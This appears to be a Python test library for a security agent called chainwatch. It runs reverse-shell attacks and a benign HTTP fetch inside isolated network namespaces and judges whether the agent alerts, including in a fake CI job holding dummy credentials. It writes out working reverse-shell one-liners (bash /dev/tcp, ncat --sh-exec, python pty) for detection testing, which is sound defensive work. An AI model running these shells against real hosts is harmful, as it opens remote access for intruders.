"""Attack and benign scenarios against a chainwatch agent run as users run it (a subprocess), judged from what
it wrote: its alerts file and its recording. One library for the live tests (tests/live/test_scenarios.py,
test_package.py, test_own_data.py) and the Vagrant kernel matrix (vagrant/scenarios/run.py): the same
scenarios, the same verdicts.

Every scenario runs in a :class:`netlab.NetLab` (victim and attacker network namespaces, documentation
addresses, no default route): nothing leaves the lab, and every command and connection is bounded.

A verdict needs evidence both ways: an attack must give exactly one incident with the attacker's address;
a benign workload must give none, and only counts once the recording shows its connection reached the
sensor.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.helpers.netlab import NetLab
from tests.helpers.polling import wait_until

READY_TIMEOUT = 120.0  # compile + seed; a loaded 2-core CI machine takes tens of seconds
ALERT_TIMEOUT = 20.0
SHELL_SECONDS = 10
PROOF = b"cw-42"
SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"

# Credentials CI systems put in every job step's environment. The agent must never keep them: the
# ci_step_with_secrets scenario sets them all and its verdict looks for each value in alerts and recording.
SECRET_ENV = {
    "CI_JOB_TOKEN": "glcbt-cw-secret-job-token",
    "CI_REGISTRY_PASSWORD": "cw-secret-registry-password",
    "CI_BUILD_TOKEN": "cw-secret-build-token",
    "BUILDKITE_AGENT_ACCESS_TOKEN": "bkua_cw-secret-agent-token",
    "GITHUB_TOKEN": "ghs_cw-secret-github-token",
    "ACTIONS_RUNTIME_TOKEN": "cw-secret-actions-runtime",
    "AWS_SECRET_ACCESS_KEY": "cw-secret-aws-key",
    "NPM_TOKEN": "npm_cw-secret-npm-token",
}
CI_LABELS = {
    "CI": "true",
    "GITLAB_CI": "true",
    "CI_JOB_ID": "4242001",
    "CI_PIPELINE_ID": "90210",
    "CI_JOB_NAME": "build",
    "CI_PROJECT_PATH": "cw-group/cw-project",
}
FAKE_RUNNER_C = Path(__file__).resolve().parents[1] / "live" / "fixtures" / "fake_runner.c"
SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


# ------------------------------------------------------------------------------------------------ agent


class Agent:
    """``chainwatch record`` (or ``run``) as a subprocess; ``argv`` is the command that starts chainwatch
    (``/usr/bin/chainwatch``, or ``python -m agent`` in a checkout). Alerts go to ``alerts`` unless
    ``use_config_alerts`` (then the config's outputs are used and ``alerts`` is where the config writes)."""

    def __init__(
        self,
        argv: Sequence[str],
        out: Path,
        *,
        config: str | None = None,
        alerts: Path | None = None,
        record: bool = True,
        env: dict[str, str] | None = None,
    ) -> None:
        self.argv = list(argv)
        self.out = out
        out.mkdir(parents=True, exist_ok=True)
        self.recording = out / "recording.cw" if record else None
        self.configured_alerts = alerts is not None
        self.alerts = alerts if alerts is not None else out / "alerts.jsonl"
        self.log = out / "agent.log"
        cmd = [*self.argv, "record", str(self.recording)] if self.recording else [*self.argv, "run"]
        if config:
            cmd += ["--config", config]
        if not self.configured_alerts:
            cmd += ["--alerts", str(self.alerts)]
        self.cmd = cmd
        self._env = env
        self.proc: subprocess.Popen[bytes] | None = None
        self.returncode: int | None = None

    def start(self) -> Agent:
        with self.log.open("wb") as err:
            self.proc = subprocess.Popen(
                self.cmd,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=err,
                env=self._env,
                start_new_session=True,
            )
        proc = self.proc

        def ready() -> bool:
            if '"sensor_ready"' in self.log_text():
                return True
            if proc.poll() is not None:
                raise AssertionError(
                    f"{self.cmd} exited {proc.returncode} before sensor_ready:\n{self.log_text()[-4000:]}"
                )
            return False

        if wait_until(ready, timeout=READY_TIMEOUT, interval=0.2):
            return self
        self.stop()
        raise AssertionError(f"{self.cmd}: no sensor_ready in {READY_TIMEOUT}s:\n{self.log_text()[-4000:]}")

    def log_text(self) -> str:
        return self.log.read_text(errors="replace")

    def alert_lines(self) -> list[dict[str, Any]]:
        try:
            text = self.alerts.read_text()
        except FileNotFoundError:
            return []
        return [json.loads(line) for line in text.splitlines() if line.strip()]

    def stop(self, timeout: float = 30.0) -> int:
        """SIGTERM, bounded; SIGKILL of its process group if it does not finish."""
        if self.proc is None or self.returncode is not None:
            return self.returncode or 0
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        try:
            self.returncode = self.proc.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(self.proc.pid, signal.SIGKILL)
            self.returncode = self.proc.wait(timeout=10)
        return self.returncode

    def events(self) -> list[dict[str, Any]]:
        """The recording as ``replay --dump`` prints it (after :meth:`stop`)."""
        assert self.recording is not None
        done = subprocess.run(
            [*self.argv, "replay", str(self.recording), "--dump"], capture_output=True, text=True, timeout=120
        )
        if done.returncode != 0:
            raise AssertionError(f"replay of {self.recording} failed: {done.stderr[-3000:]}")
        return [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]

    def __enter__(self) -> Agent:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


# -------------------------------------------------------------------------------------------- scenarios


@dataclass
class Run:
    """What a scenario did, for its verdict: the attacker's address, and anything else it needs."""

    host: str
    port: int
    extra: dict[str, Any] = field(default_factory=dict)


@dataclass
class Verdict:
    name: str
    ok: bool
    detail: str


@dataclass(frozen=True)
class Scenario:
    name: str
    kind: str  # "attack" or "benign"
    run: Callable[[NetLab, Path], Run]
    judge: Callable[[Run, list[dict[str, Any]], list[dict[str, Any]]], list[str]]


def _listener(lab: NetLab, payload: bytes = SHELL_PAYLOAD) -> tuple[Any, int]:
    port = lab.port()
    return lab.listen_tcp(lab.attacker_ns, port, payload=payload, duration=30), port


def _shell_ran(listener: Any, what: str) -> None:
    received = listener.wait(timeout=30)
    if PROOF not in received:
        raise AssertionError(f"fixture: {what} did not run the attacker's command (received {received!r})")


# Reverse-shell one-liners ({host}, {port}), each run by bash in the victim namespace against a listener that
# types one command: the attacks a box must catch on every kernel. The tool each needs is its first word.
REVERSE_SHELLS: dict[str, str] = {
    "bash_dev_tcp": "bash -i >& /dev/tcp/{host}/{port} 0>&1",
    "ncat_sh_exec": "ncat --sh-exec /bin/sh {host} {port}",
    "python_pty_spawn": (
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
    ),
}


def shell_scenario(command: str) -> Callable[[NetLab, Path], Run]:
    def run(lab: NetLab, _work: Path) -> Run:
        tool = command.split()[0]
        if shutil.which(tool) is None:
            raise AssertionError(f"fixture: {tool} is not installed (provisioning installs it)")
        listener, port = _listener(lab)
        host = lab.attacker_ip4
        line = command.format(host=host, port=port)
        # "; exit 0" keeps bash as the parent (a lone command would be exec'd in place of bash).
        lab.run(lab.victim_ns, ["timeout", str(SHELL_SECONDS), "bash", "-c", f"{line}; exit 0"], timeout=20)
        _shell_ran(listener, line)
        return Run(host, port)

    return run


def build_fake_runner(dest: Path) -> Path:
    """fixtures/fake_runner.c compiled to ``dest``: a process named like a CI runner that runs one step."""
    cc = shutil.which("cc", path=SYSTEM_PATH) or shutil.which("gcc", path=SYSTEM_PATH)
    if cc is None:
        raise AssertionError("no C compiler for the fake CI runner (install gcc)")
    dest.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run([cc, "-O2", "-o", str(dest), str(FAKE_RUNNER_C)], check=True, timeout=120, capture_output=True)
    return dest


def run_ci_step_with_secrets(lab: NetLab, work: Path) -> Run:
    """A GitLab job step (a process named gitlab-runner runs it, CI_* labels and every usual CI credential in
    its environment) that opens a reverse shell."""
    runner = build_fake_runner(work / "usr/lib/gitlab-runner/gitlab-runner")
    listener, port = _listener(lab)
    host = lab.attacker_ip4
    step = f"echo building; timeout {SHELL_SECONDS} bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'; echo done"
    # Through the environment only (a real runner never puts them in argv, which the sensor does record).
    env = {"PATH": SYSTEM_PATH, "HOME": str(work), **CI_LABELS, **SECRET_ENV}
    lab.run(
        lab.victim_ns, [str(runner), "run", "--service", "gitlab-runner", "--", "bash", "-c", step], env=env, timeout=60
    )
    _shell_ran(listener, "the CI step")
    return Run(host, port, {"secrets": dict(SECRET_ENV), "labels": dict(CI_LABELS)})


def run_benign_http(lab: NetLab, _work: Path) -> Run:
    """An ordinary client: curl fetches a page from a server in the attacker namespace."""
    listener, port = _listener(lab, payload=b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
    host = lab.attacker_ip4
    lab.run(lab.victim_ns, ["curl", "-sS", "--max-time", "10", f"http://{host}:{port}/"], timeout=20)
    listener.wait(timeout=30)
    return Run(host, port)


def _for_port(alerts: list[dict[str, Any]], run: Run) -> list[dict[str, Any]]:
    return [a for a in alerts if (a.get("destination") or {}).get("port") == run.port]


def _connected(events: list[dict[str, Any]], run: Run) -> bool:
    return any(e.get("type") == "connect" and e.get("dport") == run.port for e in events)


def judge_one_incident(run: Run, alerts: list[dict[str, Any]], events: list[dict[str, Any]]) -> list[str]:
    mine = _for_port(alerts, run)
    incidents = {a["chainwatch"]["incident"]["id"] for a in mine}
    problems = []
    if len(incidents) != 1:
        problems.append(
            f"want one incident for {run.host}:{run.port}, got {len(incidents)} "
            f"({[(a['rule']['name'], a['event'].get('reason')) for a in mine]})"
        )
    elif mine[-1]["destination"] != {"ip": run.host, "port": run.port}:
        problems.append(f"destination {mine[-1]['destination']!r}, want {run.host}:{run.port}")
    return problems


def judge_ci_step(run: Run, alerts: list[dict[str, Any]], events: list[dict[str, Any]]) -> list[str]:
    problems = judge_one_incident(run, alerts, events)
    mine = _for_port(alerts, run)
    ci = ((mine[-1].get("supply_chain") or {}).get("ci") or {}) if mine else {}
    if ci.get("repository") != run.extra["labels"]["CI_PROJECT_PATH"]:
        problems.append(f"supply_chain.ci.repository: want the job's CI_PROJECT_PATH, got {ci!r}")
    labelled = [
        e
        for e in events
        if e.get("type") == "exec" and e.get("env", {}).get("CI_JOB_ID") == run.extra["labels"]["CI_JOB_ID"]
    ]
    if not labelled:
        problems.append("the recording has no exec carrying the job's CI_JOB_ID (did the step reach the sensor?)")
    alerts_text = json.dumps(alerts)
    events_text = json.dumps(events)
    for name, value in run.extra["secrets"].items():
        if value in alerts_text or name in alerts_text:
            problems.append(f"{name} reached an alert")
        if value in events_text or name in events_text:
            problems.append(f"{name} reached the recording")
    return problems


def judge_silent(run: Run, alerts: list[dict[str, Any]], events: list[dict[str, Any]]) -> list[str]:
    problems = []
    if not _connected(events, run):
        problems.append(f"the recording has no connect to port {run.port}: the workload never reached the sensor")
    mine = _for_port(alerts, run)
    if mine:
        problems.append(f"benign workload alerted: {[(a['rule']['name'], a['event'].get('reason')) for a in mine]}")
    return problems


SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        *(Scenario(name, "attack", shell_scenario(cmd), judge_one_incident) for name, cmd in REVERSE_SHELLS.items()),
        Scenario("ci_step_with_secrets", "attack", run_ci_step_with_secrets, judge_ci_step),
        Scenario("benign_http", "benign", run_benign_http, judge_silent),
    )
}


def alerts_after(path: Path) -> Callable[[], list[dict[str, Any]]]:
    """The alerts appended to ``path`` from now on (another agent's file, e.g. the systemd service's)."""
    start = path.stat().st_size if path.exists() else 0

    def read() -> list[dict[str, Any]]:
        try:
            with path.open("rb") as fh:
                fh.seek(start)
                data = fh.read()
        except FileNotFoundError:
            return []
        return [json.loads(line) for line in data.decode().splitlines() if line.strip()]

    return read


def play(
    agent: Agent, names: Sequence[str], work: Path, also: dict[str, Callable[[], list[dict[str, Any]]]] | None = None
) -> list[Verdict]:
    """Start ``agent``, run the named scenarios one after the other in one fresh lab, stop it, judge each
    from its alerts file and recording. ``also`` names other alert sources (another agent watching the same
    host, e.g. ``{"service": alerts_after(path)}``) judged the same way, as "<label>:<scenario>". The lab is
    always torn down and the agent always stopped."""
    runs: list[tuple[Scenario, Run | None, str]] = []
    with agent, NetLab() as lab:
        for name in names:
            scenario = SCENARIOS[name]
            try:
                runs.append((scenario, scenario.run(lab, work / name), ""))
            except AssertionError as exc:
                runs.append((scenario, None, str(exc)))
        attacks = [r for s, r, _ in runs if r is not None and s.kind == "attack"]
        wait_until(lambda: all(_for_port(agent.alert_lines(), r) for r in attacks), timeout=ALERT_TIMEOUT, interval=0.2)
        time.sleep(1.0)  # incident updates, and any late benign alert
    rc = agent.stop()
    alerts = agent.alert_lines()
    events = agent.events() if agent.recording else []
    verdicts = []
    for scenario, run, error in runs:
        problems = [error] if run is None else scenario.judge(run, alerts, events)
        if rc != 0:
            problems.append(f"the agent exited {rc}")
        verdicts.append(Verdict(scenario.name, not problems, "; ".join(problems) or "ok"))
    for label, source in (also or {}).items():
        other = source()
        for scenario, run, error in runs:
            problems = [error] if run is None else scenario.judge(run, other, events)
            verdicts.append(Verdict(f"{label}:{scenario.name}", not problems, "; ".join(problems) or "ok"))
    return verdicts
